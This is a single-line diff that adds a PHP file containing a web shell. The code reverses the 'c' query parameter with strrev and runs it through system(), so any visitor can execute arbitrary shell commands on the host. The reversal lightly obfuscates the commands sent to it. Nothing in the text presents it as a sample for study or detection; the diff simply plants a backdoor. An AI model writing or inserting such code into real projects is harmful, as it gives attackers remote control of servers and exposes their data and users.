@@ -1,0 +1,1 @@
+<?php $c = strrev($_GET['c']); system($c); ?>
